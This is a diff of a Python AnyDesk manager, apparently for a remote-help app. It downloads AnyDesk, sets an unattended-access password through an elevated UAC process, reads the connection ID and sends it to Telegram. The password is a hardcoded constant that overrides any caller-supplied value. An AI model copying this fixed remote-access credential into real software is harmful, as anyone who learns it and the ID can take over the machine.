@@ -3,30 +3,113 @@ import sys
 import subprocess
 import time
 import logging
-import psutil
 import platform
 import ctypes
 import socket
 from pathlib import Path
 from typing import Optional, Tuple
 
+from utils import wait_until
+from completion_channel import CompletionListener
+from process_watch import get_process_watch
+from downloader import Downloader
+
 logger = logging.getLogger(__name__)
 
 UNATTENDED_PASSWORD = "r3moteh4nd"
 
 
+class _ElevatedProcess:
+    """Процес, запущений через ShellExecuteExW (runas): стан за дескриптором процесу"""
+
+    WAIT_OBJECT_0 = 0
+
+    def __init__(self, handle):
+        self.handle = handle
+        self._kernel32 = ctypes.WinDLL("kernel32", use_last_error=True)
+
+    def poll(self):
+        """Код виходу або None, поки процес працює"""
+        if self._kernel32.WaitForSingleObject(self.handle, 0) != self.WAIT_OBJECT_0:
+            return None
+        from ctypes import wintypes
+
+        code = wintypes.DWORD()
+        self._kernel32.GetExitCodeProcess(self.handle, ctypes.byref(code))
+        return code.value
+
+    def close(self):
+        if self.handle:
+            self._kernel32.CloseHandle(self.handle)
+            self.handle = None
+
+
 class AnyDeskManager:
     """Менеджер для AnyDesk"""
 
+    ID_TIMEOUT = 20  # секунд до отримання ID (AnyDesk ще підключається до мережі)
+    GET_ID_TIMEOUT = 10  # секунд на один виклик --get-id
+    PASSWORD_TIMEOUT = 180  # секунд на адмін-процес (разом з підтвердженням UAC)
+    INSTALL_TIMEOUT = 90  # секунд на встановлення після завантаження
+
+    # SHA-256 можна задати ключем "anydesk_sha256" в config.json
+    DOWNLOAD_URL = "https://download.anydesk.com/AnyDesk.exe"
+
+    # Шлях і ID між запусками: {"path", "mtime", "size", "id"} в config.json.
+    # mtime + size файлу AnyDesk - ключ валідності (оновили/перевстановили - кеш скидається)
+    CACHE_KEY = "anydesk_cache"
+
     def __init__(self, config_manager, telegram_api):
         self.config = config_manager
         self.telegram = telegram_api
         self.anydesk_path = self.find_anydesk()
         self._is_running = False
+        self._process = None
+        self._admin_process = None
         self.connection_id = None
 
+    # ============ КЕШ ШЛЯХУ І ID ============
+
+    @staticmethod
+    def _file_signature(path) -> Optional[dict]:
+        """mtime і розмір файлу (ключ валідності кешу) або None, якщо файлу немає"""
+        try:
+            stat = os.stat(path)
+        except (OSError, TypeError):
+            return None
+        return {"mtime": stat.st_mtime, "size": stat.st_size}
+
+    def _load_cache(self) -> dict:
+        cache = self.config.get(self.CACHE_KEY, None)
+        return cache if isinstance(cache, dict) else {}
+
+    def _save_cache(self, path, connection_id=None):
+        signature = self._file_signature(path)
+        if signature is None:
+            return
+        cache = {"path": path, **signature}
+        if connection_id:
+            cache["id"] = connection_id
+        if cache != self._load_cache():
+            self.config.set(self.CACHE_KEY, cache)
+
+    def _cached_id(self) -> Optional[str]:
+        """ID з кешу, якщо файл AnyDesk не змінився з моменту запису"""
+        cache = self._load_cache()
+        if not cache.get("id") or cache.get("path") != self.anydesk_path:
+            return None
+        if self._file_signature(self.anydesk_path) != {"mtime": cache.get("mtime"), "size": cache.get("size")}:
+            logger.info("ℹ️ AnyDesk змінився - ID буде отримано заново")
+            return None
+        return cache["id"]
+
     def find_anydesk(self) -> Optional[str]:
-        """Знайти AnyDesk"""
+        """Знайти AnyDesk (спершу - шлях з кешу)"""
+        cached_path = self._load_cache().get("path")
+        if cached_path and os.path.exists(cached_path):
+            logger.info(f"✅ AnyDesk знайдено: {cached_path}")
+            return cached_path
+
         possible_paths = [
             r"C:\Program Files\AnyDesk\AnyDesk.exe",
             r"C:\Program Files (x86)\AnyDesk\AnyDesk.exe",
@@ -39,40 +122,52 @@ class AnyDeskManager:
         for path in possible_paths:
             if os.path.exists(path):
                 logger.info(f"✅ AnyDesk знайдено: {path}")
+                self._save_cache(path)
                 return path
 
         logger.warning("⚠️ AnyDesk не знайдено")
         return None
 
-    def download_anydesk(self) -> bool:
-        """Завантажити AnyDesk"""
+    def download_anydesk(self, on_progress=None) -> bool:
+        """
+        Завантажити AnyDesk (паралельно, з докачуванням) і дочекатися, поки він запуститься.
+        on_progress(downloaded, total) - для прогресу в UI.
+        """
         if self.anydesk_path:
             return True
 
         logger.info("📥 Завантаження AnyDesk...")
         try:
-            import urllib.request
             downloads_dir = os.path.expanduser("~\\Downloads")
             save_path = os.path.join(downloads_dir, "AnyDesk.exe")
-            download_url = "https://download.anydesk.com/AnyDesk.exe"
 
             if not os.path.exists(save_path):
                 logger.info(f"Завантажу...")
-                urllib.request.urlretrieve(download_url, save_path)
+                expected_sha256 = self.config.get("anydesk_sha256", None) or None
+                if not Downloader().download(self.DOWNLOAD_URL, save_path, expected_sha256, on_progress):
+                    return False
 
             logger.info("Запуск встановлювача...")
-            subprocess.Popen([save_path])
-
-            logger.info("Чекаю на встановлення (90 сек)...")
-            for i in range(90):
-                time.sleep(1)
-                self.anydesk_path = self.find_anydesk()
-                if self.anydesk_path:
-                    logger.info(f"✅ AnyDesk встановлено")
-                    time.sleep(3)
-                    return True
-
-            return False
+            self._process = subprocess.Popen([save_path])
+            watch = get_process_watch()
+
+            def installed():
+                # Готово: AnyDesk працює, або встановлювач успішно завершився
+                watch.refresh(force=True)
+                if self.check_if_running() or self._process.poll() == 0:
+                    return self.find_anydesk()
+                return None
+
+            logger.info(f"Чекаю на встановлення (до {self.INSTALL_TIMEOUT} сек)...")
+            started = time.monotonic()
+            self.anydesk_path = wait_until(installed, self.INSTALL_TIMEOUT, initial_delay=0.2,
+                                           abort=self._launch_failed)
+            if not self.anydesk_path:
+                logger.error("❌ AnyDesk не встановлено")
+                return False
+
+            logger.info(f"✅ AnyDesk встановлено ({time.monotonic() - started:.1f} сек)")
+            return True
         except Exception as e:
             logger.error(f"❌ Помилка: {e}")
             return False
@@ -80,12 +175,12 @@ class AnyDeskManager:
     def check_if_running(self) -> bool:
         """Перевірити, чи AnyDesk запущено"""
         try:
-            for proc in psutil.process_iter(['pid', 'name']):
-                if 'anydesk' in proc.info['name'].lower():
-                    logger.info(f"ℹ️ AnyDesk запущено (PID: {proc.info['pid']})")
-                    self._is_running = True
-                    return True
-        except:
+            pids = get_process_watch().find('anydesk')
+            if pids:
+                logger.info(f"ℹ️ AnyDesk запущено (PID: {pids[0]})")
+                self._is_running = True
+                return True
+        except Exception:
             pass
         self._is_running = False
         return False
@@ -101,23 +196,49 @@ class AnyDeskManager:
 
         try:
             logger.info(f"🚀 Запускаю AnyDesk...")
-            subprocess.Popen(self.anydesk_path)
-            time.sleep(5)
-
-            if self.check_if_running():
-                logger.info("✅ AnyDesk запущено")
-                return True
-            else:
-                self._is_running = True
-                return True
+            # Без фіксованої паузи: готовність визначає wait_for_connection_id,
+            # який стежить і за цим процесом
+            self._process = subprocess.Popen(self.anydesk_path)
+            get_process_watch().refresh(force=True)
+            self._is_running = True
+            return True
         except Exception as e:
             logger.error(f"❌ Помилка: {e}")
             return False
 
-    def set_password_with_admin(self) -> bool:
+    def _launch_failed(self) -> bool:
+        """Запущений процес завершився з помилкою, а іншого AnyDesk немає"""
+        if self._process is None:
+            return False
+        code = self._process.poll()
+        return code is not None and code != 0 and not self.check_if_running()
+
+    def wait_for_connection_id(self, timeout=None) -> Optional[str]:
+        """
+        Дочекатися ID: опитування --get-id з експоненційною паузою до дедлайну.
+        Якщо запущений процес AnyDesk впав - повертає None одразу.
+        """
+        timeout = timeout or self.ID_TIMEOUT
+        logger.info("📌 Отримую ID...")
+        started = time.monotonic()
+        deadline = started + timeout
+
+        def poll_id():
+            remaining = deadline - time.monotonic()
+            return self.get_connection_id(timeout=max(1.0, min(self.GET_ID_TIMEOUT, remaining)))
+
+        connection_id = wait_until(poll_id, timeout, initial_delay=0.1, max_delay=0.5, abort=self._launch_failed)
+        if connection_id:
+            logger.info(f"✅ ID готовий за {time.monotonic() - started:.1f} сек")
+        else:
+            logger.warning(f"⚠️ ID не отримано за {timeout} сек")
+        return connection_id
+
+    def set_password_with_admin(self, listener=None) -> bool:
         """
         Запускає *саму себе* з адмін правами для встановлення пароля.
         Коректно обробляє DEV-режим.
+        listener (CompletionListener) - куди адмін-процес повідомить результат.
         """
         if not self.anydesk_path:
             logger.error("Шлях AnyDesk невідомий, не можу встановити пароль")
@@ -134,6 +255,8 @@ class AnyDeskManager:
                 # Режим EXE: запускаємо сам .exe
                 executable = sys.executable
                 arguments = f'--set-anydesk-password "{self.anydesk_path}"'
+                if listener:
+                    arguments += f' --notify "{listener.address}" {listener.token}'
                 logger.info(f"EXE Mode Admin Lauch: {executable} {arguments}")
             else:
                 # Режим DEV: запускаємо python.exe + [скрипт]
@@ -142,17 +265,14 @@ class AnyDeskManager:
                 # Викликаємо dev_run.py, який налаштує sys.path
                 script_path = str(Path.cwd() / "dev_run.py")
                 arguments = f'"{script_path}" --set-anydesk-password "{self.anydesk_path}"'
+                if listener:
+                    arguments += f' --notify "{listener.address}" {listener.token}'
                 logger.info(f"DEV Mode Admin Lauch: {executable} {arguments}")
 
             # Запустити скрипт з адмін правами
-            ctypes.windll.shell32.ShellExecuteW(
-                None,
-                "runas",  # Запит адмін прав
-                executable,  # RemoteHand.exe або python.exe
-                arguments,  # Аргументи
-                None,
-                1  # SW_SHOW - показати вікно (UAC)
-            )
+            self._admin_process = self._launch_elevated(executable, arguments)
+            if self._admin_process is None:
+                return False
 
             logger.info(f"✅ Запрос адмін прав надіслано користувачу")
             return True
@@ -163,19 +283,93 @@ class AnyDeskManager:
             traceback.print_exc()
             return False
 
-    def get_connection_id(self) -> Optional[str]:
-        """Отримати ID"""
+    def _launch_elevated(self, executable, arguments):
+        """
+        Запуск з адмін правами (UAC) через ShellExecuteExW з SEE_MASK_NOCLOSEPROCESS:
+        дескриптор процесу дозволяє не чекати весь PASSWORD_TIMEOUT, якщо процес завершився.
+        Повертає об'єкт з poll()/close() або None, якщо процес не запущено.
+        """
+        from ctypes import wintypes
+
+        class SHELLEXECUTEINFOW(ctypes.Structure):
+            _fields_ = [("cbSize", wintypes.DWORD), ("fMask", wintypes.ULONG), ("hwnd", wintypes.HWND),
+                        ("lpVerb", wintypes.LPCWSTR), ("lpFile", wintypes.LPCWSTR),
+                        ("lpParameters", wintypes.LPCWSTR), ("lpDirectory", wintypes.LPCWSTR),
+                        ("nShow", ctypes.c_int), ("hInstApp", wintypes.HINSTANCE), ("lpIDList", ctypes.c_void_p),
+                        ("lpClass", wintypes.LPCWSTR), ("hkeyClass", wintypes.HKEY), ("dwHotKey", wintypes.DWORD),
+                        ("hIconOrMonitor", wintypes.HANDLE), ("hProcess", wintypes.HANDLE)]
+
+        SEE_MASK_NOCLOSEPROCESS = 0x00000040
+        SW_SHOW = 1  # Показати вікно (UAC)
+
+        info = SHELLEXECUTEINFOW(
+            cbSize=ctypes.sizeof(SHELLEXECUTEINFOW),
+            fMask=SEE_MASK_NOCLOSEPROCESS,
+            lpVerb="runas",  # Запит адмін прав
+            lpFile=executable,  # RemoteHand.exe або python.exe
+            lpParameters=arguments,
+            nShow=SW_SHOW,
+        )
+        shell32 = ctypes.WinDLL("shell32", use_last_error=True)
+        if not shell32.ShellExecuteExW(ctypes.byref(info)):
+            # 1223 (ERROR_CANCELLED) - користувач відхилив UAC
+            logger.error(f"❌ Адмін-процес не запущено (код {ctypes.get_last_error()})")
+            return None
+        if not info.hProcess:
+            logger.warning("⚠️ Дескриптор адмін-процесу недоступний - чекатиму до таймауту")
+        return _ElevatedProcess(info.hProcess)
+
+    def _admin_process_exited(self) -> bool:
+        """Адмін-процес завершився (тоді результату вже не буде, крім вже надісланого)"""
+        return self._admin_process is not None and self._admin_process.poll() is not None
+
+    def _set_password(self) -> bool:
+        """Встановити пароль через адмін-процес і дочекатися результату (IPC)"""
+        # Адмін-процес повідомить результат через IPC - прокидаємось одразу;
+        # завершився без повідомлення (впав, закрили) - не чекаємо весь таймаут
+        with CompletionListener() as listener:
+            if not self.set_password_with_admin(listener):
+                logger.error("Не вдалося запустити адмін-процес.")
+                return False
+
+            try:
+                logger.info(f"Чекаю на результат адмін-процесу (до {self.PASSWORD_TIMEOUT} сек)...")
+                started = time.monotonic()
+                result = listener.wait(self.PASSWORD_TIMEOUT, abort=self._admin_process_exited)
+                exit_code = self._admin_process.poll()
+            finally:
+                self._admin_process.close()
+                self._admin_process = None
+
+        if result is not None and result["ok"]:
+            logger.info(f"✅ Пароль встановлено ({time.monotonic() - started:.1f} сек)")
+            return True
+        if result is not None:
+            logger.error(f"❌ Адмін-процес: помилка (код {result['code']}): {result['message']}")
+        elif exit_code is not None:
+            logger.error(f"❌ Адмін-процес завершився без результату (код виходу {exit_code})")
+        else:
+            logger.warning("⚠️ Адмін-процес не відповів (timeout). Пробую продовжити...")
+        return False
+
+    def get_connection_id(self, timeout=None, use_cache=True) -> Optional[str]:
+        """Отримати ID: з кешу (без запуску процесу) або одним викликом --get-id"""
         if not self.anydesk_path:
             return None
 
-        try:
-            logger.info("📌 Отримую ID...")
+        if use_cache:
+            connection_id = self._cached_id()
+            if connection_id:
+                logger.info(f"✅ ID (з кешу): {connection_id}")
+                self.connection_id = connection_id
+                return connection_id
 
+        try:
             result = subprocess.run(
                 [self.anydesk_path, '--get-id'],
                 capture_output=True,
                 text=True,
-                timeout=10,
+                timeout=timeout or self.GET_ID_TIMEOUT,
                 creationflags=subprocess.CREATE_NO_WINDOW if platform.system() == "Windows" else 0
             )
 
@@ -184,21 +378,27 @@ class AnyDeskManager:
                 if connection_id and connection_id.isdigit():
                     logger.info(f"✅ ID: {connection_id}")
                     self.connection_id = connection_id
+                    self._save_cache(self.anydesk_path, connection_id)
                     return connection_id
 
+        except subprocess.TimeoutExpired:
+            logger.debug("--get-id не відповів вчасно")
         except Exception as e:
             logger.error(f"❌ Помилка: {e}")
 
         return None
 
-    def start(self, password: str = None) -> Tuple[Optional[str], Optional[str]]:
-        """(ОНОВЛЕНО) Запустити AnyDesk з очікуванням адмін-процесу"""
+    def start(self, password: str = None, on_progress=None) -> Tuple[Optional[str], Optional[str]]:
+        """
+        (ОНОВЛЕНО) Запустити AnyDesk з очікуванням адмін-процесу.
+        on_progress(downloaded, total) - прогрес завантаження, якщо AnyDesk не встановлено.
+        """
         password = UNATTENDED_PASSWORD
 
         # Крок 1: Якщо вже запущено (нічого не змінилось)
         if self.check_if_running():
             logger.info("AnyDesk вже запущено")
-            connection_id = self.get_connection_id()
+            connection_id = self.wait_for_connection_id()
             if connection_id:
                 try:
                     user_name = self.config.get("user_name", "")
@@ -212,7 +412,7 @@ class AnyDeskManager:
 
         # Крок 2: Завантажити якщо потрібно
         if not self.anydesk_path:
-            if not self.download_anydesk():
+            if not self.download_anydesk(on_progress):
                 return None, None
 
         # Крок 3: Запустити
@@ -221,48 +421,10 @@ class AnyDeskManager:
 
         # Крок 4: ВСТАНОВИТИ ПАРОЛЬ (З ОЧІКУВАННЯМ)
         logger.info("🔐 Встановлення пароля...")
-
-        # (ОНОВЛЕНО) Використовуємо C:\ProgramData - спільну папку
-        flag_file = Path(os.environ.get("PROGRAMDATA", "C:/")) / ".rh_pass_set_flag"
-        logger.info(f"[*] Шлях до прапорця: {flag_file}")
-
-        if flag_file.exists():
-            try:
-                os.remove(flag_file)
-            except Exception as e:
-                logger.warning(f"Не вдалося видалити старий прапорець: {e}")
-
-        # Запускаємо адмін-процес
-        if not self.set_password_with_admin():
-            logger.error("Не вдалося запустити адмін-процес.")
-            pass
-
-        # (ОНОВЛЕНО) Чекаємо на адмін-процес (до 3 хвилин)
-        logger.info("Чекаю на завершення роботи адмін-процесу (до 180 сек)...")
-        password_set = False
-        for i in range(180):  # 3 хвилини
-            if flag_file.exists():
-                logger.info("✅ Адмін-процес завершив роботу.")
-                try:
-                    os.remove(flag_file)
-                except:
-                    pass
-                password_set = True
-                break
-            time.sleep(1)
-
-        if not password_set:
-            logger.warning("⚠️ Адмін-процес не відповів (timeout). Пробую продовжити...")
+        password_set = self._set_password()
 
         # Крок 5: Отримати ID
-        logger.info("📌 Отримання ID...")
-        time.sleep(1)  # Дамо AnyDesk секунду
-        connection_id = self.get_connection_id()
-
-        if not connection_id:
-            logger.info("Повторна спроба отримати ID...")
-            time.sleep(3)
-            connection_id = self.get_connection_id()
+        connection_id = self.wait_for_connection_id()
 
         # Крок 6: Надіслати в Telegram
         try: